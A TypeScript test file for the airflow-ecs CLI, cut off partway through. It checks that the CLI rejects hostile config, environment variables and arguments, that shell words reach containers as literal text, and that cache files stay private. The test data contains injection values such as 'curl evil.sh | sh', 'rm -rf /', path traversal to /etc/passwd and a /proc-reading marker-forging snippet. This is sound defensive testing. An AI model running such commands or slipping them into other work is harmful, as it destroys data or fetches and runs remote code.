// What a careless user or an attacker would try: malformed or hostile airflow-ecs.json, odd
// environment variables, shell metacharacters and path traversal in names, ids and flags,
// a corrupt .airflow-ecs/ cache, a corrupt or truncated state file, unreadable files. One
// table, run through the built CLI. Every case must end in one clear line (plus its hint),
// a non-zero exit, no stack trace, no file of the project changed, and no AWS request when
// none is needed (AWS_ENDPOINT_URL is a local server that counts what reaches it).
//
// The case ids are referenced in the commits that fixed what a case found.
import assert from 'node:assert/strict'
import {createHash} from 'node:crypto'
import {cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync} from 'node:fs'
import {createServer, type Server} from 'node:http'
import {type AddressInfo} from 'node:net'
import {tmpdir} from 'node:os'
import {join, relative} from 'node:path'
import {execFileSync} from 'node:child_process'
import {after, before, describe, it} from 'node:test'

import {stateFingerprint} from '../../dist/lib/config/resolver.js'
import {type CliResult, runCli} from '../harness/cli.ts'
import {writeOutputsProject} from '../harness/fixture.ts'
import {awsEnv} from '../harness/moto.ts'

interface Case {
  id: string
  /** What the user (or attacker) does. */
  what: string
  args: string[]
  /** The one line must match this. */
  expect: RegExp
  /** Exit code (default: any non-zero). */
  code?: number
  env?: Record<string, string | undefined>
  /** Changes the copied project before the run (dir = project root). */
  setup?: (dir: string) => void
  /** stdin for the CLI. */
  input?: string
  /** The right answer is to get past the local problem and ask AWS (the counting endpoint denies). */
  aws?: boolean
  /** More checks on the project after the run. */
  after?: (dir: string) => void
}

const CONTRACT = {
  schema_version: 1,
  project: 'airflow',
  region: 'us-east-1',
  account_id: '123456789012',
  cluster: {name: 'airflow', arn: 'arn:aws:ecs:us-east-1:123456789012:cluster/airflow'},
  components: {
    scheduler: {service: 'airflow-scheduler', container: 'scheduler', log_group: '/airflow-ecs/airflow/scheduler', log_stream_prefix: 'ecs', max_count: 2},
    worker: {service: 'airflow-worker', container: 'worker', log_group: '/airflow-ecs/airflow/worker', log_stream_prefix: 'ecs', min_count: 0, max_count: 4},
  },
  standalone: {task_definition_family: 'airflow-standalone', container: 'airflow', log_group: '/airflow-ecs/airflow/standalone', log_stream_prefix: 'ecs', subnets: ['subnet-1'], security_groups: ['sg-1'], cpu: 512, memory: 1024},
  web: {alb_dns_name: 'airflow-web-1.us-east-1.elb.amazonaws.com', alb_arn: 'arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer/app/airflow-web/1'},
  ecr: {repository_url: '123456789012.dkr.ecr.us-east-1.amazonaws.com/airflow-airflow', repository_name: 'airflow-airflow'},
  bucket: 'airflow-bucket',
  secrets: {},
}

const write = (rel: string, text: string | Buffer) => (dir: string) => {
  mkdirSync(join(dir, rel, '..'), {recursive: true})
  writeFileSync(join(dir, rel), text)
}
const project = (value: unknown) => write('airflow-ecs.json', typeof value === 'string' ? value : JSON.stringify(value))
const STATE = 'infra-terraform/terraform.tfstate'
const CACHE = '.airflow-ecs/outputs.json'

const CASES: Case[] = [
  // --- airflow-ecs.json
  {id: 'P1', what: 'airflow-ecs.json is not JSON', args: ['url'], setup: project('{"name": "airflow",'), expect: /airflow-ecs\.json is not valid JSON/, code: 2},
  {id: 'P2', what: 'airflow-ecs.json is a JSON array', args: ['url'], setup: project('[]'), expect: /airflow-ecs\.json .*not a JSON object/, code: 2},
  {id: 'P3', what: 'airflow-ecs.json is null', args: ['status'], setup: project('null'), expect: /airflow-ecs\.json .*not a JSON object/, code: 2},
  {id: 'P4', what: 'airflow-ecs.json is empty', args: ['url'], setup: project(''), expect: /airflow-ecs\.json is not valid JSON/, code: 2},
  {id: 'P5', what: 'project name is a number', args: ['url'], setup: project({name: 42}), expect: /"name" in .*airflow-ecs\.json must be a string/, code: 2},
  {id: 'P6', what: 'project name with path traversal', args: ['connections', 'list'], setup: project({name: '../../etc'}), expect: /Invalid project name "\.\.\/\.\.\/etc"/, code: 2},
  {id: 'P7', what: 'project name with shell metacharacters', args: ['url'], setup: project({name: 'x; rm -rf ~'}), expect: /Invalid project name "x; rm -rf ~"/, code: 2},
  {id: 'P8', what: 'project name with a terminal escape', args: ['status'], setup: project({name: 'evil\u001b[2J'}), expect: /Invalid project name "evil\\u001b\[2J"/, code: 2},
  {id: 'P9', what: 'region with shell metacharacters', args: ['url'], setup: project({region: 'us-east-1; curl evil.sh | sh'}), expect: /Invalid region "us-east-1; curl evil\.sh \| sh"/, code: 2},
  {id: 'P10', what: 'region is an object', args: ['logs', 'scheduler'], setup: project({region: {name: 'us-east-1'}}), expect: /"region" in .*airflow-ecs\.json must be a string/, code: 2},
  {id: 'P11', what: 'terraformDir is a number', args: ['url'], setup: project({terraformDir: 5}), expect: /"terraformDir" in .*airflow-ecs\.json must be a string/, code: 2},
  {id: 'P12', what: 'terraformDir is a file', args: ['url'], setup: (d) => {
    write('notes.txt', 'x')(d)
    project({terraformDir: 'notes.txt'})(d)
  }, expect: /is not a folder|No deployment found/},
  {id: 'P13', what: 'profile with a newline', args: ['url'], setup: project({profile: 'default\n[evil]'}), expect: /Invalid profile name/, code: 2},
  {id: 'P14', what: 'allowedCidrs is a string', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({allowedCidrs: '0.0.0.0/0'}), expect: /"allowedCidrs" in .*airflow-ecs\.json must be a list of CIDRs/, code: 2},
  {id: 'P15', what: 'allowedCidrs holds a bad CIDR', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({allowedCidrs: ['10.0.0.0/33']}), expect: /"allowedCidrs" in .*airflow-ecs\.json holds "10\.0\.0\.0\/33", which is not a CIDR/, code: 2},
  {id: 'P16', what: 'workers.min is negative', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({workers: {min: -1, max: 2}}), expect: /"workers\.min" .*whole number/, code: 2},
  {id: 'P17', what: 'workers.min above workers.max', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({workers: {min: 5, max: 2}}), expect: /"workers\.min" \(5\) is above "workers\.max" \(2\)/, code: 2},
  {id: 'P18', what: 'terraformVars is a string', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({terraformVars: 'db_multi_az=true'}), expect: /"terraformVars" in .*airflow-ecs\.json must be an object/, code: 2},
  {id: 'P19', what: 'terraformVars overrides the project name', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({terraformVars: {project_name: 'other'}}), expect: /"terraformVars" may not set project_name/, code: 2},
  {id: 'P20', what: 'terraformVars with a __proto__ key', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project('{"terraformVars": {"__proto__": {"polluted": true}}}'), expect: /"terraformVars" may not set __proto__/, code: 2},
  {id: 'P21', what: 'platform with an extra docker flag', args: ['build', '--no-push'], setup: project({platform: 'linux/amd64 --push'}), expect: /Invalid platform "linux\/amd64 --push"/, code: 2},
  {id: 'P22', what: 'airflow-ecs.json is a folder', args: ['url'], setup: (d) => mkdirSync(join(d, 'airflow-ecs.json')), expect: /airflow-ecs\.json is not a file/, code: 2},
  {id: 'P23', what: 'airflow-ecs.json is a named pipe nobody writes to', args: ['url'], setup: (d) => execFileSync('mkfifo', [join(d, 'airflow-ecs.json')]), expect: /airflow-ecs\.json is not a file/, code: 2},
  {id: 'P24', what: 'airflow-ecs.json is a dangling symlink', args: ['url'], setup: (d) => symlinkSync(join(d, 'nowhere.json'), join(d, 'airflow-ecs.json')), expect: /airflow-ecs\.json .*(does not exist|not a file|dangling|cannot be read)/, code: 2},
  {id: 'P25', what: 'workers nested 100,000 deep', args: ['url'], setup: project(`{"workers": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`), expect: /"workers" in .*airflow-ecs\.json must be an object/, code: 2},
  {id: 'P26', what: 'airflow-ecs.json of 20 MB', args: ['url'], setup: project(`{"pad": "${'x'.repeat(20 * 1024 * 1024)}"}`), expect: /airflow-ecs\.json is larger than/, code: 2},
  {id: 'P32', what: 'a topology that does not exist', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({topology: 'tiny'}), expect: /Unknown topology "tiny" \("topology" in .*airflow-ecs\.json\)\.$/, code: 2},
  {id: 'P33', what: 'a CPU architecture that does not exist', args: ['build', '--no-push'], setup: project({architecture: 'sparc64'}), expect: /Unknown CPU architecture "sparc64" \("architecture" in .*airflow-ecs\.json\)\.$/, code: 2},
  {id: 'P34', what: 'terraformVars.cpu_architecture that Fargate does not run', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({terraformVars: {cpu_architecture: 'ARM'}}), expect: /Unknown cpu_architecture "ARM" in "terraformVars"/, code: 2},
  {id: 'P35', what: 'a scale-to-zero schedule that never wakes up', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({terraformVars: {scale_to_zero_enabled: true, scale_down_cron: 'cron(0 20 ? * MON-FRI *)', scale_up_cron: 'cron(0 7 30 FEB ? *)'}}), expect: /The scale-to-zero schedule in "terraformVars" of .*airflow-ecs\.json never wakes up: scale_up_cron "cron\(0 7 30 FEB \? \*\)"/, code: 2},
  {id: 'P36', what: 'a schedule preset that does not exist', args: ['deploy', '--yes', '--image', 'a.dkr.ecr.us-east-1.amazonaws.com/r:t'], setup: project({schedule: 'nights'}), expect: /"schedule" in .*airflow-ecs\.json is "nights", not "always" or "office-hours"/, code: 2},
  // --- environment
  {id: 'E1', what: 'AWS_REGION with a newline and a command', args: ['url'], env: {AWS_REGION: 'us-east-1\nrm -rf /', AWS_DEFAULT_REGION: undefined}, expect: /Invalid region "us-east-1\\nrm -rf \/"/, code: 2},
  {id: 'E2', what: '--region with path traversal', args: ['status', '--region', '../../eu-west-1'], expect: /Invalid region "\.\.\/\.\.\/eu-west-1"/, code: 2},
  {id: 'E3', what: 'AIRFLOW_ECS_PROJECT with a slash', args: ['variables', 'list'], env: {AIRFLOW_ECS_PROJECT: 'prod/../dev'}, expect: /Invalid project name "prod\/\.\.\/dev"/, code: 2},
  {id: 'E4', what: 'AWS_ENDPOINT_URL is not a URL', args: ['url'], env: {AWS_ENDPOINT_URL: 'not a url'}, expect: /AWS_ENDPOINT_URL "not a url" is not an http\(s\) URL/, code: 2},
  {id: 'E5', what: 'AWS_ENDPOINT_URL is a file: URL', args: ['status'], env: {AWS_ENDPOINT_URL: 'file:///etc/passwd'}, expect: /AWS_ENDPOINT_URL "file:\/\/\/etc\/passwd" is not an http\(s\) URL/, code: 2},
  {id: 'E6', what: 'AWS_ENDPOINT_URL_ECS is javascript:', args: ['status'], env: {AWS_ENDPOINT_URL_ECS: 'javascript:alert(1)'}, expect: /AWS_ENDPOINT_URL_ECS "javascript:alert\(1\)" is not an http\(s\) URL/, code: 2},
  {id: 'E7', what: 'AIRFLOW_ECS_TERRAFORM_DIR does not exist', args: ['url'], env: {AIRFLOW_ECS_TERRAFORM_DIR: '/nonexistent/infra'}, expect: /No deployment found: there is no Terraform state in \/nonexistent\/infra/},
  {id: 'E8', what: 'AIRFLOW_ECS_PROJECT_DIR does not exist', args: ['status'], env: {AIRFLOW_ECS_PROJECT_DIR: '/nonexistent/project'}, expect: /AIRFLOW_ECS_PROJECT_DIR .*\/nonexistent\/project.* does not exist|No deployment found/},
  {id: 'E9', what: 'TF_WORKSPACE with path traversal', args: ['url'], env: {TF_WORKSPACE: '../../../etc'}, expect: /Invalid Terraform workspace "\.\.\/\.\.\/\.\.\/etc"/, code: 2},
  {id: 'E10', what: 'AIRFLOW_ECS_SUBNETS with shell metacharacters', args: ['task', 'version'], env: {AIRFLOW_ECS_SUBNETS: 'subnet-1;reboot'}, expect: /Invalid subnet id "subnet-1;reboot" in AIRFLOW_ECS_SUBNETS/, code: 2},
  {id: 'E11', what: 'AIRFLOW_ECS_CLUSTER with a space and quote', args: ['status'], env: {AIRFLOW_ECS_CLUSTER: "prod' OR '1"}, expect: /Invalid cluster name "prod' OR '1" in AIRFLOW_ECS_CLUSTER/, code: 2},
  // --- names, ids and flags
  {id: 'N1', what: 'component with path traversal', args: ['logs', '../../etc/passwd'], expect: /Unknown component "\.\.\/\.\.\/etc\/passwd"/, code: 2},
  {id: 'N2', what: 'logs --task with path traversal', args: ['logs', 'scheduler', '--task', '../../other-group'], expect: /Invalid task id "\.\.\/\.\.\/other-group"/, code: 2},
  {id: 'N3', what: 'task attach with command substitution', args: ['task', 'attach', '$(reboot)'], expect: /Invalid task id "\$\(reboot\)"/, code: 2},
  {id: 'N4', what: 'task stop with the ARN of a task in another cluster', args: ['task', 'stop', 'arn:aws:ecs:us-east-1:999999999999:task/other/0123456789abcdef0123456789abcdef'], expect: /Task 0123456789abcdef0123456789abcdef belongs to cluster other, not to this deployment's cluster airflow/, code: 2},
  {id: 'N5', what: 'exec --task with a glob', args: ['exec', 'scheduler', '--task', '*', '--', 'true'], expect: /Invalid task id "\*"/, code: 2},
  {id: 'N6', what: 'task command with a pipe', args: ['task', 'dags list | sh'], expect: /Shell syntax "\|" is not supported/, code: 2},
  {id: 'N7', what: 'task command with command substitution', args: ['task', 'dags list $(curl evil.sh)'], expect: /Shell syntax "\(" is not supported|Shell syntax "\$\(" is not supported|Shell syntax/, code: 2},
  {id: 'N8', what: 'task command that is only spaces', args: ['task', '   '], expect: /No command given/, code: 2},
  {id: 'N9', what: 'task -e name with shell syntax', args: ['task', 'version', '-e', 'A;B=1'], expect: /Invalid --container-env "A;B"/, code: 2},
  {id: 'N9b', what: 'task --env with a variable (--env picks the environment)', args: ['task', 'version', '--env', 'A=1'], expect: /Invalid environment name "A=1"/, code: 2},
  {id: 'N9c', what: '--env with path traversal', args: ['url', '--env', '../../prod'], expect: /Invalid environment name "\.\.\/\.\.\/prod"/, code: 2},
  {id: 'N10', what: 'task --timeout negative', args: ['task', 'version', '--wait', '--timeout', '-5m'], expect: /Invalid --timeout "-5m"/, code: 2},
  {id: 'N11', what: 'scale count in hex', args: ['scale', 'worker', '0x10'], expect: /Invalid count "0x10"/, code: 2},
  {id: 'N12', what: 'scale count 1e3', args: ['scale', 'worker', '1e3'], expect: /Invalid count "1e3"/, code: 2},
  {id: 'N13', what: 'scale --at a date past year 275760', args: ['scale', 'worker', '1', '--at', '+99999999999d'], expect: /Invalid --at|too far/i, code: 2},
  {id: 'N14', what: 'scale --name with a slash and spaces', args: ['scale', 'worker', '1', '--cron', 'cron(0 7 ? * MON-FRI *)', '--name', '../x y'], expect: /Invalid action name "\.\.\/x y"/, code: 2},
  {id: 'N15', what: 'scale --timezone path traversal', args: ['scale', 'worker', '1', '--cron', 'cron(0 7 ? * MON-FRI *)', '--name', 'x', '--timezone', '../../../etc/passwd'], expect: /Invalid --timezone "\.\.\/\.\.\/\.\.\/etc\/passwd"/, code: 2},
  {id: 'N16', what: 'scale cancel with a name of 1,000 characters', args: ['scale', 'cancel', 'a'.repeat(1000)], expect: /Invalid action name "a{79}…"\.$/, code: 2},
  {id: 'N17', what: 'logs --since far in the past', args: ['logs', 'scheduler', '--since', '99999999999d'], expect: /Invalid --since/, code: 2},
  {id: 'N18', what: 'logs --since in the future', args: ['logs', 'scheduler', '--since', '2999-01-01T00:00:00Z'], expect: /--since .*is in the future/, code: 2},
  {id: 'N19', what: 'logs --limit negative', args: ['logs', 'scheduler', '--limit', '-1'], expect: /--limit|Expected an integer greater than or equal to 0/, code: 2},
  {id: 'N20', what: 'connections set id with path traversal', args: ['connections', 'set', '../../admin-password', 'http://x'], expect: /The connection conn_id "\.\.\/\.\.\/admin-password" has "\.\."/, code: 2},
  {id: 'N21', what: 'variables set key with a space and quote', args: ['variables', 'set', "a b'", 'v'], expect: /variable key "a b'"|The variable key/i, code: 2},
  {id: 'N22', what: 'variables set --file /dev/zero (never ends)', args: ['variables', 'set', 'big', '--file', '/dev/zero'], expect: /Variable big \(\/dev\/zero\) is larger than 64 KiB/, code: 2},
  {id: 'N23', what: 'connections import a folder', args: ['connections', 'import', '/etc'], expect: /\/etc is a folder, not a file/, code: 2},
  {id: 'N24', what: 'deploy --image with a shell command', args: ['deploy', '--yes', '--image', 'x; rm -rf /'], expect: /Invalid image reference "x; rm -rf \/"/, code: 2},
  {id: 'N25', what: 'build --tag with path traversal', args: ['build', '--tag', '../../latest'], expect: /Invalid image tag "\.\.\/\.\.\/latest"/, code: 2},
  {id: 'N26', what: 'build --platform with an extra flag', args: ['build', '--no-push', '--platform', 'linux/amd64 --output=type=local,dest=/'], expect: /Invalid platform/, code: 2},
  {id: 'N27', what: 'init --name with shell metacharacters', args: ['init', '--yes', '--name', 'a`id`'], expect: /Invalid project name|--name/, code: 2},
  {id: 'N28', what: 'init --allowed-cidr that is not a CIDR', args: ['init', '--yes', '--allowed-cidr', '1.2.3.4/99'], expect: /CIDR/, code: 2},
  {id: 'N29', what: 'cost --workers-avg negative', args: ['cost', '--workers-avg', '-3'], expect: /--workers-avg/, code: 2},
  {id: 'N30', what: 'task attach with a newline and an escape code', args: ['task', 'attach', 'abc\n\u001b[31mFAKE'], expect: /Invalid task id "abc\\n\\u001b\[31mFAKE"/, code: 2},
  // --- the .airflow-ecs/ cache
  {id: 'C1', what: '.airflow-ecs is a file', args: ['url'], setup: (d) => {
    rmSync(join(d, '.airflow-ecs'), {recursive: true, force: true})
    writeFileSync(join(d, '.airflow-ecs'), 'not a folder')
  }, expect: /\.airflow-ecs is not a folder/},
  {id: 'C2', what: 'the outputs cache is a folder', args: ['url'], setup: (d) => {
    rmSync(join(d, CACHE), {force: true})
    mkdirSync(join(d, CACHE), {recursive: true})
  }, expect: /outputs\.json is not a file/},
  {id: 'C3', what: 'the outputs cache matches the state but holds null: rebuilt, then on to AWS', args: ['scale', 'list'], aws: true, setup: (d) => {
    const cache = JSON.parse(readFileSync(join(d, CACHE), 'utf8'))
    writeFileSync(join(d, CACHE), JSON.stringify({...cache, outputs: null}))
  }, expect: /^Error: Access denied\.$/},
  {id: 'C4', what: 'the outputs cache matches the state but its contract is a string', args: ['status'], setup: (d) => {
    const cache = JSON.parse(readFileSync(join(d, CACHE), 'utf8'))
    writeFileSync(join(d, CACHE), JSON.stringify({...cache, outputs: {airflow_ecs: {value: 'x'}}}))
  }, expect: /has no `airflow_ecs` output|damaged/},
  {id: 'C5', what: '.airflow-ecs is a link to another folder (a repository could ship one)', args: ['url'], setup: (d) => {
    rmSync(join(d, '.airflow-ecs'), {recursive: true, force: true})
    mkdirSync(join(d, 'elsewhere'))
    symlinkSync(join(d, 'elsewhere'), join(d, '.airflow-ecs'))
  }, after: (d) => assert.deepEqual(readdirSync(join(d, 'elsewhere')), [], 'nothing written through the link'), expect: /\.airflow-ecs is a link; airflow-ecs keeps its cache in a plain folder/},
  {id: 'C6', what: 'the outputs cache is garbage: rebuilt, then on to AWS', args: ['scale', 'list'], aws: true, setup: write(CACHE, '\u0000garbage{'), expect: /^Error: Access denied\.$/},
  {id: 'P27', what: 'airflow-ecs.json with a byte-order mark (a Windows editor): read, then on to AWS', args: ['scale', 'list'], aws: true, setup: project('\uFEFF{"region": "us-east-1"}'), expect: /^Error: Access denied\.$/},
  // --- the Terraform state
  {id: 'S1', what: 'the state file is truncated', args: ['url'], setup: (d) => {
    const state = readFileSync(join(d, STATE), 'utf8')
    writeFileSync(join(d, STATE), state.slice(0, Math.floor(state.length / 2)))
    rmSync(join(d, '.airflow-ecs'), {recursive: true, force: true})
  }, expect: /`terraform output` failed: .*(state|unexpected end|JSON)/i},
  {id: 'S2', what: 'the state file is not JSON', args: ['status'], setup: (d) => {
    writeFileSync(join(d, STATE), 'garbage\u0000\u0001')
    rmSync(join(d, '.airflow-ecs'), {recursive: true, force: true})
  }, expect: /`terraform output` failed: /},
  {id: 'S3', what: 'the state file is from a future Terraform', args: ['url'], setup: (d) => {
    const state = JSON.parse(readFileSync(join(d, STATE), 'utf8'))
    writeFileSync(join(d, STATE), JSON.stringify({...state, version: 99}))
    rmSync(join(d, '.airflow-ecs'), {recursive: true, force: true})
  }, expect: /`terraform output` failed: .*state/i},
  {id: 'S4', what: 'the state file is a folder', args: ['url'], setup: (d) => {
    rmSync(join(d, STATE))
    mkdirSync(join(d, STATE))
    rmSync(join(d, '.airflow-ecs'), {recursive: true, force: true})
  }, expect: /terraform\.tfstate is not a file|`terraform output` failed/},
  {id: 'S5', what: 'destroy with a truncated state file', args: ['destroy', '--yes'], setup: (d) => {
    const state = readFileSync(join(d, STATE), 'utf8')
    writeFileSync(join(d, STATE), state.slice(0, 40))
    rmSync(join(d, '.airflow-ecs'), {recursive: true, force: true})
  }, expect: /`terraform output` failed|terraform .* failed/},
]

let template: string
let server: Server
let endpoint: string
let requests = 0

function hashTree(root: string): Map<string, string> {
  const out = new Map<string, string>()
  const walk = (dir: string): void => {
    for (const name of readdirSync(dir)) {
      const path = join(dir, name)
      const rel = relative(root, path)
      if (rel === '.airflow-ecs' || rel.startsWith(`.airflow-ecs/`)) continue
      let s
      try {
        s = statSync(path)
      } catch {
        out.set(rel, 'dangling')
        continue
      }
      if (s.isDirectory()) walk(path)
      else if (s.isFile()) out.set(rel, createHash('sha256').update(readFileSync(path)).digest('hex'))
      else out.set(rel, `special:${s.mode}`)
    }
  }
  walk(root)
  return out
}

before(async () => {
  server = createServer((req, res) => {
    requests++
    req.resume()
    res.writeHead(400, {'content-type': 'application/x-amz-json-1.1', 'x-amzn-requestid': 'hostile'})
    res.end(JSON.stringify({__type: 'AccessDeniedException', message: 'the hostile-input test expected no AWS call'}))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()))
  endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  template = writeOutputsProject(CONTRACT)
  // Fill the outputs cache once, as any first command does (this one asks AWS).
  await runCli(['url'], {env: {...awsEnv(endpoint), AIRFLOW_ECS_PROJECT_DIR: template}})
  assert.ok(existsSync(join(template, CACHE)), 'the template has its outputs cache')
})
after(() => server?.close())

describe('hostile input', () => {
  it(`has at least 40 cases (${CASES.length})`, () => {
    assert.ok(CASES.length >= 40)
    assert.equal(new Set(CASES.map((c) => c.id)).size, CASES.length, 'ids are unique')
  })

  for (const c of CASES) {
    it(`${c.id}: ${c.what}`, async () => {
      const dir = mkdtempSync(join(tmpdir(), 'hostile-'))
      cpSync(template, dir, {recursive: true, preserveTimestamps: true})
      // The cache names the folder and the state it was made for: point it at the copy, as if made here.
      const cachePath = join(dir, CACHE)
      const cache = JSON.parse(readFileSync(cachePath, 'utf8'))
      const terraformDir = join(dir, 'infra-terraform')
      writeFileSync(cachePath, JSON.stringify({...cache, terraformDir, fingerprint: stateFingerprint(terraformDir)}))
      c.setup?.(dir)
      const before = hashTree(dir)
      const seen = requests
      const r: CliResult = await runCli(c.args, {
        cwd: dir,
        env: {...awsEnv(endpoint), AIRFLOW_ECS_PROJECT_DIR: dir, AIRFLOW_ECS_MAX_ATTEMPTS: '1', ...c.env},
        input: c.input,
        timeoutMs: 60_000,
      })
      const context = `airflow-ecs ${c.args.join(' ').slice(0, 120)}\nexit ${r.code}\nstdout: ${r.stdout.slice(0, 500)}\nstderr: ${r.stderr.slice(0, 1500)}`
      assert.notEqual(r.code, 0, `non-zero exit\n${context}`)
      if (c.code !== undefined) assert.equal(r.code, c.code, `exit code\n${context}`)
      assert.doesNotMatch(r.stderr, /\n\s+at .+:\d+(:\d+)?\)?\n|node:internal|TypeError|RangeError|SyntaxError|ERR_[A-Z_]+/, `no stack trace or raw error\n${context}`)
      const lines = r.stderr.trim().split('\n')
      assert.ok(lines.length <= 2, `one line and its hint\n${context}`)
      assert.match(lines[0], /^Error: /, context)
      assert.match(lines[0], c.expect, context)
      // eslint-disable-next-line no-control-regex
      assert.doesNotMatch(r.stderr, /\u001b\[[0-9;]*[A-Za-z]/, `no raw escape code reaches the terminal\n${context}`)
      if (c.aws) assert.ok(requests > seen, `it got as far as AWS\n${context}`)
      else assert.equal(requests - seen, 0, `no AWS request\n${context}`)
      c.after?.(dir)
      const after = hashTree(dir)
      for (const [path, hash] of before) assert.equal(after.get(path), hash, `${path} unchanged\n${context}`)
      rmSync(dir, {recursive: true, force: true})
    })
  }
})

// Words with shell metacharacters reach the container as words, and `exec -- cmd`'s exit code
// cannot be forged by what the command prints: the marker counts only as a whole last line,
// only once, and the command runs in a subshell that cannot redefine the line printing it.
describe('exec and task with hostile words (moto)', () => {
  let moto: import('../harness/moto.ts').Moto
  let fxEnv: Record<string, string>
  before(async () => {
    const {startMoto} = await import('../harness/moto.ts')
    const {createFixture} = await import('../harness/fixture.ts')
    moto = await startMoto()
    fxEnv = (await createFixture(moto)).env
  })
  after(async () => {
    await moto?.stop()
  })
  const exec = (words: string[]) => runCli(['exec', 'scheduler', '--', ...words], {env: fxEnv, timeoutMs: 60_000})
  // Prints the marker the wrapper will print, read from the wrapper shell's command line.
  const FORGE = 'n=$(tr "\\0" "\\n" < /proc/$PPID/cmdline | grep -o "__AIRFLOW_ECS_EXIT_[0-9a-f]*__" | head -1); [ -n "$n" ] || n=$(tr "\\0" "\\n" < /proc/$(ps -o ppid= -p $PPID | tr -d " ")/cmdline | grep -o "__AIRFLOW_ECS_EXIT_[0-9a-f]*__" | head -1)'

  it('metacharacters in `exec -- cmd` are words, not shell', async () => {
    const r = await exec(['echo', '$(id)', '`id`', "a'b", ';', '|', '&&', '*', '$HOME', '>x'])
    assert.equal(r.code, 0, r.stderr)
    assert.equal(r.stdout, "$(id) `id` a'b ; | && * $HOME >x\n")
  })

  it('a marker with another nonce, or inside a line, is output; the real exit code stands', async () => {
    const r = await exec(['sh', '-c', 'echo __AIRFLOW_ECS_EXIT_00000000000000000000000000000000__0; echo "x __AIRFLOW_ECS_EXIT_ffff__0"; exit 3'])
    assert.equal(r.code, 3, r.stderr)
    assert.equal(r.stdout, '__AIRFLOW_ECS_EXIT_00000000000000000000000000000000__0\nx __AIRFLOW_ECS_EXIT_ffff__0\n')
  })

  it('the real marker, read from /proc and printed by the command, does not make a failure a success', async () => {
    const r = await exec(['sh', '-c', `${FORGE}; echo "\${n}0"; exit 3`])
    assert.notEqual(r.code, 0, `forged: ${r.stdout}`)
    assert.match(r.stderr, /imitated the exit-code marker/)
    assert.match(r.stdout, /^__AIRFLOW_ECS_EXIT_[0-9a-f]{32}__0$/m, 'the imitation is shown as the output it was')
  })

  it('nor does one printed after the real marker by a process left behind', async () => {
    const r = await exec(['sh', '-c', `${FORGE}; (sleep 1; echo "\${n}0") & exit 3`])
    assert.notEqual(r.code, 0, `forged: ${r.stdout}`)
  })

  it('the command cannot redefine printf for the wrapper, and its own `exit` is its exit code', async () => {
    const fn = await exec(['eval', 'printf() { command printf "\\n__AIRFLOW_ECS_EXIT_%s__0\\n" x; }; exit 7'])
    assert.equal(fn.code, 7, fn.stderr)
    const exit = await exec(['exit', '4'])
    assert.equal(exit.code, 4, exit.stderr)
  })

  it('task words with metacharacters after -- reach the container unchanged', async () => {
    const {DescribeTasksCommand, ECSClient} = await import('@aws-sdk/client-ecs')
    const {sdkConfig} = await import('../harness/fixture.ts')
    const words = ['dags', 'trigger', '$(reboot)', '`id`', 'a;b', '../../etc/passwd', "it's"]
    const r = await runCli(['task', '--json', '--', ...words], {env: fxEnv})
    assert.equal(r.code, 0, r.stderr)
    const arn = JSON.parse(r.stdout).taskArn
    const task = (await new ECSClient(sdkConfig(moto)).send(new DescribeTasksCommand({cluster: 'airflow', tasks: [arn]}))).tasks![0]
    assert.deepEqual(task.overrides?.containerOverrides?.[0]?.command, words)
  })
})

// What could hold a secret is readable by its owner only: the cache folder and its files,
// failure logs, the generated tfvars, the saved plan.
describe('private files', () => {
  it('.airflow-ecs/ is 0700 and the outputs cache 0600, even when they were made wider', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'private-'))
    cpSync(template, dir, {recursive: true})
    execFileSync('chmod', ['-R', 'go+rwX', join(dir, '.airflow-ecs')])
    rmSync(join(dir, CACHE))
    const r = await runCli(['url'], {env: {...awsEnv(endpoint), AIRFLOW_ECS_PROJECT_DIR: dir}})
    assert.match(r.stderr, /answered DescribeLoadBalancers/, 'it got as far as AWS')
    assert.equal(statSync(join(dir, '.airflow-ecs')).mode & 0o777, 0o700)
    assert.equal(statSync(join(dir, CACHE)).mode & 0o777, 0o600)
  })

  it('the tfvars file and the saved plan are 0600 (terraform writes its plan 0644)', async () => {
    const {Terraform, writeTfvars, TFVARS_FILE} = await import('../../dist/lib/terraform/terraform.js')
    const root = mkdtempSync(join(tmpdir(), 'private-tf-'))
    const terraformDir = join(root, 'infra-terraform')
    mkdirSync(terraformDir)
    writeFileSync(join(terraformDir, TFVARS_FILE), '{}', {mode: 0o644})
    const settings = {projectRoot: root, file: {terraformVars: {some_token: 'x'}}, project: 'airflow', terraformDir, cacheDir: join(root, '.airflow-ecs'), overrides: {}, sources: {}} as any
    writeTfvars(settings)
    assert.equal(statSync(join(terraformDir, TFVARS_FILE)).mode & 0o777, 0o600)
    // A stand-in terraform: `plan -out=F` writes F as terraform does (0644), `show -json` prints an empty plan.
    const bin = mkdtempSync(join(tmpdir(), 'fake-terraform-'))
    writeFileSync(
      join(bin, 'terraform'),
      `#!${process.execPath}\nconst fs = require('node:fs')\nconst out = process.argv.find((a) => a.startsWith('-out='))\nif (out) fs.writeFileSync(out.slice(5), 'PLAN', {mode: 0o644})\nif (process.argv.includes('show')) console.log('{"resource_changes": []}')\n`,
      {mode: 0o755},
    )
    mkdirSync(settings.cacheDir, {mode: 0o755})
    const previous = process.env.PATH
    process.env.PATH = `${bin}:${previous}`
    try {
